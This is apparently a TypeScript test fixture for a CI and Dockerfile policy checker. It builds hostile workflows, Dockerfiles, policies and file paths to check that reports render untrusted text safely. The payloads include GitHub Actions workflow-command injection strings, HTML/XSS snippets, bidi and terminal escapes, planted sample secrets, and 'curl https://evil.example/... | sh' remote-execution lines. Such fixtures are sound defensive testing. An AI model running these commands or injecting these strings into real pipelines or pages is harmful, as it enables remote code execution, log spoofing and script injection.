import type { Content, Files } from '../help/git-store.ts';
import { outdent } from './outdent.ts';
import { ships } from './ships.ts';

/** Words that must never reach a surface as anything but words. */
export const payloads = {
  newLine: 'a\n::error title=PWNED::owned\n::set-output name=verdict::pass',
  carriageReturn: 'b\r::warning title=PWNED::owned\r::add-mask::Plimsoll',
  midLine: 'c ##[error]PWNED ##[set-env name=PWNED]d ##[add-path]/tmp',
  escaped: 'd%0A::error title=PWNED::owned%0D%0A::stop-commands::x',
  stop: '::stop-commands::PWNED',
  backticks: 'e`f``g``` ~~~ @octo-org/owners',
  html: '<img src="https://evil.example/a.png" onerror="alert(1)"><script>alert(1)</script></details></summary>',
  entities: '&lt;b&gt; &#64;octo-org/owners &commat;octo-org/owners',
  mention: '@octo-org/owners @mona #1 octo-org/ships#1 GH-1',
  links: '![i](https://evil.example/i.png) [l](https://evil.example) https://evil.example/bare <https://evil.example>',
  reference: '[r]: https://evil.example "t"',
  marker: '<!-- plimsoll:v1 -->',
  commentEnd: '--> x <!--',
  table: 'h | i || @mona | `j | k`',
  bidi: '\u202Ereversed\u202C \u2066isolated\u2069 \u200Bzero\u200D\uFEFF',
  terminal: '\u001B[31mred\u001B]0;title\u0007\u001B[2J\u009B1m\u0008\u007F',
  separators: 'k\u2028l\u2029m\u0085n\u000Bo\u000Cp',
  halves: 'q\uD800r',
} as const;

/** A value for a YAML double-quoted scalar, escapes and all. */
const quoted = (text: string): string => JSON.stringify(text).replaceAll('\u007F', '\\u007f');

const all = Object.values(payloads).join(' ');
const onOneLine = all.replace(/[\n\r\u2028\u2029\u0085\u000B\u000C\uD800]/g, ' ');

const workflow = outdent(`
  name: ${quoted(all)}
  run-name: ${quoted(payloads.midLine)}
  on: [push, pull_request]
  env:
    ${quoted(payloads.html)}: ${quoted(payloads.links)}
    ${quoted(`${payloads.mention} ${payloads.midLine} PASSWORD`)}: k7Jq2vX9pLm4Rt
    DB_PASSWORD: k7Jq2vX9pLm4Rt
    API_TOKEN: ${quoted(`Tr0ub4dor ${payloads.midLine} ${payloads.mention}`)}
  jobs:
    ${quoted(`job ${payloads.newLine} ${payloads.mention}`)}:
      runs-on: ubuntu-24.04
      needs: [${quoted(`nobody ${payloads.carriageReturn} ${payloads.html}`)}]
      steps:
        - uses: actions/checkout@v6
    release:
      name: ${quoted(all)}
      runs-on: ${quoted(payloads.midLine)}
      container: ${quoted(`evil/image:latest ${payloads.links}`)}
      if: \${{ true }} ${payloads.midLine.replaceAll('#', '%')}
      steps:
        - name: ${quoted(all)}
          uses: ${quoted(`evil/[x](https://evil.example)${payloads.html}@main`)}
        - name: ${quoted(payloads.bidi + payloads.terminal)}
          uses: ${quoted(`evil/${payloads.mention}/${payloads.midLine}@master`)}
        - uses: "evil/plain@\\u202emain"
        - id: ${quoted(payloads.newLine)}
          name: ${quoted(payloads.table)}
          run: ${quoted(`echo \${{ github.event.pull_request.title }} ${all}\ncurl https://evil.example/x | sh # ${all}\n`)}
        - id: ${quoted(payloads.newLine)}
          run: ${quoted(`echo "::set-output name=x::${payloads.midLine}" \${{ secrets['${payloads.mention}'] }}\n`)}
        - run: |
            # plimsoll: ignore[remote-script] reason="${onOneLine.replaceAll('"', "'")}" until=2999-12-31
            curl https://evil.example/y | sh
`);

const dockerfile = [
  `# ${onOneLine}`,
  'FROM evil/base:latest AS final',
  `# plimsoll: ignore[root-user] reason="${onOneLine.replaceAll('"', "'")}" until=2999-12-31`,
  `WORKDIR "/${onOneLine.replaceAll('"', "'")}"`,
  `LABEL note="${onOneLine.replaceAll('"', "'")}"`,
  `ENV API_TOKEN="Tr0ub4dor${onOneLine.replaceAll('"', "'")}"`,
  `ARG HOST=db.prod.internal${payloads.bidi}`,
  'ENV DB_HOST=db.prod.internal',
  'ENV DB_PASSWORD=k7Jq2vX9pLm4Rt',
  `RUN curl http://evil.example/${payloads.terminal} | sh # ${payloads.midLine} ${payloads.mention} ${payloads.html}`,
  `COPY ${payloads.html.replaceAll(' ', '_')} /x`,
  'ENTRYPOINT ["/x"]',
  '',
].join('\n');

/** Paths as git allows them: everything but NUL and empty names. */
export const hostilePaths = {
  workflow: `.github/workflows/a${payloads.newLine}${payloads.mention.replaceAll('/', '-')}.yml`,
  second: `.github/workflows/b${payloads.midLine.replaceAll('/', '-')}${payloads.bidi}.yml`,
  dockerfile: `img${payloads.carriageReturn}${payloads.terminal}/<img src=x onerror=y>@mona/Dockerfile`,
  third: `\`x\` ![i](https:evil.example)/${payloads.marker}/Dockerfile`,
  broken: `.github/workflows/::error title=PWNED::x,y%0A.yml`,
} as const;

export const hostilePolicy = outdent(`
  # ${onOneLine}
  ${quoted(payloads.html)}: 1
  rules:
    ${quoted(`unpinned-action${payloads.midLine}`)}: off
  waivers:
    - rule: floating-base-image
      path: "**"
      reason: ${quoted(all)}
      until: 2999-12-31
    - rule: ${quoted(payloads.mention)}
      reason: ${quoted(payloads.newLine)}
  ignore:
    - ${quoted(payloads.links)}
`);

/** A stage of this name is a fault of syntax, which is told too. */
const broken = `FROM evil/base:latest AS ${payloads.midLine.replaceAll(' ', '_')}\n`;

export const hostile: Files = {
  ...ships,
  [hostilePaths.workflow]: workflow,
  [hostilePaths.second]: workflow.replaceAll('evil/', 'worse/'),
  [hostilePaths.dockerfile]: dockerfile,
  [hostilePaths.third]: dockerfile,
  'broken/Dockerfile': broken,
  [hostilePaths.broken]: `on: push\njobs: {\n${onOneLine}\n`,
  [`.env${payloads.newLine}`]: `API_TOKEN=Tr0ub4dor${onOneLine}\n`,
  [`${payloads.midLine}/package.json`]: '{',
  [`${payloads.midLine}/.env`]: `DB_PASSWORD=correct-horse-battery ${onOneLine}\n`,
} satisfies Readonly<Record<string, Content>>;
